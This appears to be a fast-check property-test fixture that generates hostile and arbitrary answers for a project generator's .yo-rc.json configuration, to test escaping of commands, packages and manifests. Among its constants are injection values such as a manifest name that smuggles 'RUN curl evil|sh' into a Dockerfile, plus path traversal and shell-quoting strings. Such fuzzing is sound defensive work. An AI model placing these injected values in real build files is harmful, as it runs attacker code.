import fc from 'fast-check';
import { ownPackage } from '../../../generators/core/catalog/paths.js';
import { catalog } from '../../support/rendering.js';
import { objectText, text, value } from './hostile.js';

const ids = catalog.templates.map(({ id }) => id);
const commands = fc.oneof(
  text,
  fc.constantFrom(
    'node server.js',
    'gunicorn app:app --bind 0.0.0.0:$PORT',
    `x '\${y}' "''" && z`,
    "a '' ${b} $${c} \\",
    'x\ty',
  ),
);
const processTypes = fc.oneof(
  text,
  fc.constantFrom(
    'worker',
    'null',
    'true',
    'on',
    'y',
    'no',
    'a-b_c',
    'rel: ease\n  evil',
    '../../../evil',
    'release',
    'Web',
  ),
);
const list = (item: fc.Arbitrary<unknown>) =>
  fc.oneof({ weight: 6, arbitrary: fc.array(item, { maxLength: 4 }) }, { weight: 1, arbitrary: value });
const project = fc.record(
  {
    processes: fc.oneof(
      {
        weight: 6,
        arbitrary: fc
          .array(fc.tuple(processTypes, fc.oneof(commands, value)), { maxLength: 4 })
          .map((all) => JSON.parse(objectText([['web', 'run it'], ...all])) as unknown),
      },
      { weight: 1, arbitrary: value },
    ),
    packages: list(fc.oneof(text, fc.constantFrom('flask', 'flask[async,x] >=3,<4', 'a ==1."', "b ''", 'c ${x}'))),
    programs: list(fc.oneof(text, fc.constantFrom('.', 'cmd/web', 'cmd/ü', "cmd/a'b", 'cmd/$x'))),
    builds: fc.oneof(text, fc.constantFrom('npm run build', 'npm run heroku-postbuild', "true\n''; evil")),
    manifests: list(
      fc.oneof(text, fc.constantFrom('package.json', 'package-lock.json', 'package.json\nRUN curl evil|sh\n#')),
    ),
  },
  { requiredKeys: [] },
);
/** What our key in .yo-rc.json may contain. */
export const own = fc.record(
  {
    template: fc.oneof({ weight: 9, arbitrary: fc.constantFrom(...ids) }, { weight: 1, arbitrary: value }),
    name: fc.oneof(
      { weight: 2, arbitrary: fc.constantFrom('null', 'true', 'yes', 'off', 'on1', 'import', 'my-app') },
      { weight: 2, arbitrary: value },
    ),
    title: value,
    base: fc.oneof(fc.constantFrom(...catalog.bases.map(({ id }) => id)), value),
    ci: fc.oneof(fc.constantFrom(...catalog.cis.map(({ id }) => id)), value),
    license: fc.oneof(fc.constantFrom(...catalog.licenses.map(({ id }) => id)), value),
    addons: fc.oneof(fc.subarray(catalog.addons.map(({ id }) => id)), value),
    options: fc.oneof(
      fc.dictionary(fc.oneof(fc.constantFrom('python', 'node'), text), fc.oneof(fc.constantFrom('3.13', '24'), value)),
      value,
    ),
    project: fc.oneof({ weight: 4, arbitrary: project }, { weight: 1, arbitrary: value }),
  },
  { requiredKeys: ['template'] },
);
const others = fc.dictionary(text, value, { maxKeys: 3 });
/** Whole answers files, including what other generators store there. */
export const records = fc.oneof(
  {
    weight: 8,
    arbitrary: fc
      .tuple(own, others)
      .map(([answers, rest]) => objectText([...Object.entries(rest), [ownPackage.name, answers]])),
  },
  { weight: 1, arbitrary: value.map((each) => objectText([[ownPackage.name, each]])) },
  { weight: 1, arbitrary: text },
);
